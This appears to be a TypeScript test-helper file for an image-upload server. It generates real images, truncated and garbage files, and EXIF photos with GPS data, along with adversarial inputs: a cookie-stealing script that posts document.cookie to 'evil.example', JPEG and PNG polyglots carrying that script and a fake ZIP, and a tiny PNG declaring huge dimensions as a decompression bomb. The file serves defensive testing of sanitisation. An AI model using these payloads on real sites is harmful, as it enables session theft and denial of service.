import { crc32 } from 'node:zlib';
import sharp from 'sharp';

// Real images made once per test file; the byte-size helpers pad a real image with bytes after its end
// marker (decoders ignore them, and the server's re-encoding drops them).
let seed = 0x2545f491;
/** Pseudo-random bytes: pixels that JPEG cannot compress away. */
function noiseBytes(length: number) {
  const raw = Buffer.alloc(length);
  for (let i = 0; i < length; i++) {
    seed ^= seed << 13;
    seed ^= seed >>> 17;
    seed ^= seed << 5;
    raw[i] = seed & 0xff;
  }
  return raw;
}
const noise = (width: number, height: number) =>
  sharp(noiseBytes(width * height * 3), { raw: { width, height, channels: 3 } });

/** A real 1x1 PNG. */
export const PNG_BASE64 =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
const BASE_JPEG = await noise(24, 16).jpeg({ quality: 90 }).toBuffer();
const BASE_PNG = await noise(24, 16).png().toBuffer();
const GIF = await noise(16, 16).gif().toBuffer();
const WEBP = await noise(16, 16).webp().toBuffer();

const padTo = (image: Buffer, size: number) =>
  size <= image.length
    ? image.subarray(0, size)
    : Buffer.concat([image, Buffer.alloc(size - image.length, 7)]);

/** A real JPEG of exactly `size` bytes (cut short, and so broken, when `size` is below the image's own). */
export const jpegOf = (size: number) => padTo(BASE_JPEG, size);
export const pngOf = (size: number) => padTo(BASE_PNG, size);
export const webp = () => WEBP;
export const gif = () => GIF;
export const pdf = () => Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer <<>>\n%%EOF\n');
export const textFile = () => Buffer.from('esto es un archivo de texto renombrado como foto.jpg\n');

const photos = new Map<number, Promise<Buffer>>();
/**
 * A real photo-sized JPEG of exactly `size` bytes: megapixels of noise fill all but the last few
 * kilobytes, so the server decodes an image that large, not a small one followed by padding.
 */
export function bigJpegOf(size: number): Promise<Buffer> {
  let made = photos.get(size);
  if (!made) {
    made = (async () => {
      const width = 1600;
      // Noise at quality 100 takes about 1.4 bytes a pixel; aim a little under and pad the rest.
      let height = Math.floor((size * 0.95) / (width * 1.4));
      for (;;) {
        const jpeg = await noise(width, height).jpeg({ quality: 100 }).toBuffer();
        if (jpeg.length <= size) return padTo(jpeg, size);
        height = Math.floor(height * 0.95);
      }
    })();
    photos.set(size, made);
  }
  return made;
}

/** Width, height and format as a decoder reads them. */
export const describeImage = async (bytes: Uint8Array) => {
  const { width, height, format } = await sharp(bytes).metadata();
  return { width, height, format };
};

/** A page of script, as a polyglot would carry it. */
export const PAYLOAD = '<script>fetch("https://evil.example/?c="+document.cookie)</script>';
const ZIP_PAYLOAD = Buffer.concat([
  Buffer.from([0x50, 0x4b, 0x03, 0x04]),
  Buffer.from(`index.html${PAYLOAD}`),
]);

/** True when `PAYLOAD` (or a part of it) is anywhere in the bytes. */
export const carriesPayload = (bytes: Uint8Array) =>
  ['<script>', 'evil.example', 'index.html'].some((part) => Buffer.from(bytes).includes(Buffer.from(part)));

/** A JPEG that is also an HTML page and a ZIP: both appended after the image's end marker. */
export const jpegPolyglot = async (width = 64, height = 48) =>
  Buffer.concat([await noise(width, height).jpeg().toBuffer(), Buffer.from(PAYLOAD), ZIP_PAYLOAD]);

/** A PNG carrying the script in a text chunk before its pixels and again after its IEND chunk. */
export async function pngPolyglot(width = 64, height = 48, channels: 3 | 4 = 3) {
  const png = await sharp(noiseBytes(width * height * channels), { raw: { width, height, channels } })
    .png()
    .toBuffer();
  const afterIhdr = 8 + 25;
  return Buffer.concat([
    png.subarray(0, afterIhdr),
    pngChunk('tEXt', Buffer.from(`Comment\0${PAYLOAD}`)),
    png.subarray(afterIhdr),
    Buffer.from(PAYLOAD),
  ]);
}

/** A camera photo: EXIF with the camera, a GPS position and a rotation (6: turn 90 degrees clockwise). */
export const jpegWithExif = (width = 80, height = 40) =>
  sharp({ create: { width, height, channels: 3, background: '#336699' } })
    .jpeg()
    .withExif({
      IFD0: { Make: 'CamaraEspia', Model: 'Modelo X', Copyright: PAYLOAD },
      IFD3: {
        GPSLatitudeRef: 'S',
        GPSLatitude: '34/1 36/1 0/1',
        GPSLongitudeRef: 'W',
        GPSLongitude: '58/1 22/1 0/1',
      },
    })
    .withMetadata({ orientation: 6 })
    .toBuffer();

/** A real image format the server does not take (TIFF), to prove that other decoders stay off. */
export const tiff = () => noise(16, 16).tiff().toBuffer();

/**
 * A valid header (so the right format, width and height) over garbage: a JPEG whose compressed data is
 * noise and stops short of its end marker, a PNG whose pixel chunk (IDAT, CRC intact) is not zlib data.
 */
export async function garbageAfterHeader(format: 'jpeg' | 'png') {
  const image = await noise(300, 200)[format]().toBuffer();
  if (format === 'jpeg') {
    const scan = image.indexOf(Buffer.from([0xff, 0xda]));
    const headerEnd = scan + 2 + image.readUInt16BE(scan + 2);
    return Buffer.concat([image.subarray(0, headerEnd), Buffer.alloc(600, 0x41)]);
  }
  const idat = image.indexOf(Buffer.from('IDAT')) - 4;
  const length = image.readUInt32BE(idat);
  const broken = Buffer.from(image);
  broken.fill(0x41, idat + 8, idat + 8 + length);
  broken.writeUInt32BE(crc32(broken.subarray(idat + 4, idat + 8 + length)), idat + 8 + length);
  return broken;
}

/**
 * A tiny PNG whose header declares width x height: a decompression bomb's shape, a few hundred bytes.
 * The IHDR fields are patched in a real 1x1 PNG and its CRC recomputed.
 */
export function pngDeclaring(width: number, height: number) {
  const png = Buffer.from(PNG_BASE64, 'base64');
  png.writeUInt32BE(width, 16);
  png.writeUInt32BE(height, 20);
  png.writeUInt32BE(crc32(png.subarray(12, 29)), 29);
  return png;
}

function pngChunk(type: string, body: Buffer) {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(body.length);
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), body]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typed));
  return Buffer.concat([length, typed, crc]);
}

/**
 * Sends one request and measures it: the time to answer and how much the process's resident memory
 * grew meanwhile (garbage collected first when the runner exposes it, so earlier tests do not count).
 */
export async function measured<T>(send: () => Promise<T>) {
  (globalThis as { gc?: () => void }).gc?.();
  const rss = process.memoryUsage().rss;
  const started = performance.now();
  const result = await send();
  return { result, ms: performance.now() - started, rssGrowth: process.memoryUsage().rss - rss };
}
